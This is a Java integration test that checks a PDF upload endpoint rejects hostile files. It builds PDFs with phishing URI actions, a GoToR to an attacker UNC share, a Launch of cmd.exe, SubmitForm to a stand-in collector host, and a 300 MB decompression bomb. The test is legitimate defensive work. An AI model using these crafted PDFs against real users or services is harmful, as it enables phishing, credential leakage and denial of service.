package se.finsam.handlingar.security;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;

import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionGoTo;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.apache.pdfbox.pdmodel.interactive.documentnavigation.destination.PDPageFitDestination;
import org.apache.pdfbox.pdmodel.interactive.documentnavigation.outline.PDDocumentOutline;
import org.apache.pdfbox.pdmodel.interactive.documentnavigation.outline.PDOutlineItem;
import org.junit.jupiter.api.Test;

import se.finsam.handlingar.support.Api;
import se.finsam.handlingar.support.IntegrationTest;

/**
 * Finding 8 of the security review (docs/security.md): uploads that reach the board by e-mail passed the check with
 * links and actions that leave the document, a decompression bomb was accepted, and a long title gave 500.
 */
class HostileUploadTest extends IntegrationTest {

    private static byte[] pdf(Consumer<PDDocument> attack) {
        try (PDDocument document = new PDDocument()) {
            for (int i = 1; i <= 2; i++) {
                PDPage page = new PDPage(PDRectangle.A4);
                document.addPage(page);
                try (PDPageContentStream content = new PDPageContentStream(document, page)) {
                    content.beginText();
                    content.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 14);
                    content.newLineAtOffset(72, 760);
                    content.showText("Bilaga, sida " + i);
                    content.endText();
                }
            }
            attack.accept(document);
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            document.save(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    private static COSDictionary action(String type, Object... keyValues) {
        COSDictionary action = new COSDictionary();
        action.setItem(COSName.TYPE, COSName.getPDFName("Action"));
        action.setItem(COSName.S, COSName.getPDFName(type));
        for (int i = 0; i < keyValues.length; i += 2) {
            COSName key = COSName.getPDFName((String) keyValues[i]);
            if (keyValues[i + 1] instanceof String text) {
                action.setString(key, text);
            } else {
                action.setItem(key, (COSName) keyValues[i + 1]);
            }
        }
        return action;
    }

    private static void fullPageLink(PDDocument document, COSDictionary action) {
        PDAnnotationLink link = new PDAnnotationLink();
        link.setRectangle(PDRectangle.A4);
        link.getCOSObject().setItem(COSName.A, action);
        try {
            document.getPage(0).getAnnotations().add(link);
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    private Api.Response upload(byte[] pdf, String query) {
        return api.postBytes("/api/distribution/uploads" + (query == null ? "" : "?" + query), pdf, "application/pdf",
                "sekreterare");
    }

    @Test
    void actionsThatLeaveTheDocumentAreRefusedWhereverTheySit() {
        Map<String, Consumer<PDDocument>> attacks = new LinkedHashMap<>();
        attacks.put("OpenAction URI", d -> d.getDocumentCatalog().getCOSObject().setItem(COSName.OPEN_ACTION,
                action("URI", "URI", "https://phish.example/login")));
        attacks.put("page /AA GoToR to a UNC path", d -> {
            COSDictionary aa = new COSDictionary();
            aa.setItem(COSName.O, action("GoToR", "F", "\\\\attacker\\share\\x.pdf"));
            d.getPage(1).getCOSObject().setItem(COSName.AA, aa);
        });
        attacks.put("GoToE", d -> fullPageLink(d, action("GoToE", "F", "bilaga.pdf")));
        attacks.put("Named Print", d -> fullPageLink(d, action("Named", "N", COSName.getPDFName("Print"))));
        attacks.put("full-page link to a phishing URL", d -> {
            PDActionURI uri = new PDActionURI();
            uri.setURI("https://finsam-inloggning.example/");
            fullPageLink(d, uri.getCOSObject());
        });
        attacks.put("outline item with URI", d -> {
            PDDocumentOutline outline = new PDDocumentOutline();
            PDOutlineItem item = new PDOutlineItem();
            item.setTitle("Läs mer");
            item.getCOSObject().setItem(COSName.A, action("URI", "URI", "https://phish.example/"));
            outline.addLast(item);
            d.getDocumentCatalog().setDocumentOutline(outline);
        });
        attacks.put("Launch in an annotation's /AA", d -> {
            PDAnnotationLink link = new PDAnnotationLink();
            link.setRectangle(new PDRectangle(10, 10, 50, 50));
            COSDictionary aa = new COSDictionary();
            aa.setItem(COSName.getPDFName("E"), action("Launch", "F", "cmd.exe"));
            link.getCOSObject().setItem(COSName.AA, aa);
            try {
                d.getPage(0).getAnnotations().add(link);
            } catch (IOException e) {
                throw new java.io.UncheckedIOException(e);
            }
        });
        attacks.put("SubmitForm", d -> d.getDocumentCatalog().getCOSObject().setItem(COSName.OPEN_ACTION,
                action("SubmitForm", "F", "https://collect.example/")));
        attacks.put("ImportData", d -> fullPageLink(d, action("ImportData", "F", "data.fdf")));
        attacks.forEach((what, attack) -> {
            Api.Response response = upload(pdf(attack), "titel=Bilaga");
            assertThat(response.status()).as(what).isEqualTo(422);
            assertThat(response.contentType()).startsWith("application/problem+json");
            assertThat(response.json().path("code").asString()).as(what).isIn("upload.link", "upload.scripted");
        });
        Api.Response phishing = upload(pdf(attacks.get("full-page link to a phishing URL")), null);
        assertThat(phishing.json().get("detail").asString()).contains("https://finsam-inloggning.example/");
    }

    @Test
    void linksWithinTheDocumentAndPageNavigationStayAllowed() {
        byte[] internal = pdf(d -> {
            PDActionGoTo goTo = new PDActionGoTo();
            PDPageFitDestination destination = new PDPageFitDestination();
            destination.setPage(d.getPage(1));
            goTo.setDestination(destination);
            fullPageLink(d, goTo.getCOSObject());
            COSDictionary next = action("Named", "N", COSName.getPDFName("NextPage"));
            PDAnnotationLink link = new PDAnnotationLink();
            link.setRectangle(new PDRectangle(10, 10, 50, 50));
            link.getCOSObject().setItem(COSName.A, next);
            try {
                d.getPage(1).getAnnotations().add(link);
            } catch (IOException e) {
                throw new java.io.UncheckedIOException(e);
            }
        });
        Api.Response response = upload(internal, "titel=Intern%20l%C3%A4nk");
        assertThat(response.status()).as(response.text()).isEqualTo(201);
        assertThat(response.json().get("pages").asInt()).isEqualTo(2);
    }

    @Test
    void aDecompressionBombIsRefusedWithoutBeingInflated() throws IOException {
        // 300 MB of zeros that deflate to about 300 kB: beyond handlingar.distribution.upload.max-decoded-size
        byte[] bomb = deflated(300L * 1024 * 1024);
        byte[] file = pdf(d -> {
            COSStream stream = d.getDocument().createCOSStream();
            try (OutputStream out = stream.createRawOutputStream()) {
                out.write(bomb);
            } catch (IOException e) {
                throw new java.io.UncheckedIOException(e);
            }
            stream.setItem(COSName.FILTER, COSName.FLATE_DECODE);
            COSArray contents = new COSArray();
            contents.add(d.getPage(1).getCOSObject().getDictionaryObject(COSName.CONTENTS));
            contents.add(stream);
            d.getPage(1).getCOSObject().setItem(COSName.CONTENTS, contents);
        });
        assertThat(file.length).isLessThan(1024 * 1024);
        Api.Response response = upload(file, "titel=Bomb");
        assertThat(response.status()).isEqualTo(422);
        assertThat(response.json().get("code").asString()).isEqualTo("upload.decompression-bomb");
        assertThat(response.json().get("detail").asString()).contains("max-decoded-size");
    }

    @Test
    void titleAndFileNameLengthAndControlCharactersAre422NotA500() {
        byte[] plain = pdf(d -> { });
        String longTitle = "Å".repeat(301);
        Api.Response tooLong = upload(plain, "titel=" + URLEncoder.encode(longTitle, StandardCharsets.UTF_8));
        assertThat(tooLong.status()).isEqualTo(422);
        assertThat(tooLong.json().get("errors").get(0).get("pointer").asString()).isEqualTo("/titel");
        Api.Response longName = upload(plain, "filnamn=" + "a".repeat(400) + ".pdf");
        assertThat(longName.status()).isEqualTo(422);
        assertThat(longName.json().get("errors").get(0).get("pointer").asString()).isEqualTo("/filnamn");
        Api.Response control = upload(plain, "titel=" + URLEncoder.encode("Bilaga\u001b[2J", StandardCharsets.UTF_8));
        assertThat(control.status()).isEqualTo(422);
        assertThat(upload(plain, "titel=" + URLEncoder.encode("Å".repeat(300), StandardCharsets.UTF_8)).status())
                .isEqualTo(201);
        for (String query : List.of("titel=", "filnamn=%20")) {
            assertThat(upload(plain, query).status()).as(query).isEqualTo(201);
        }
    }

    private static byte[] deflated(long zeros) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (DeflaterOutputStream deflate = new DeflaterOutputStream(out, new Deflater(Deflater.BEST_COMPRESSION))) {
            byte[] block = new byte[1024 * 1024];
            for (long written = 0; written < zeros; written += block.length) {
                deflate.write(block);
            }
        }
        return out.toByteArray();
    }
}
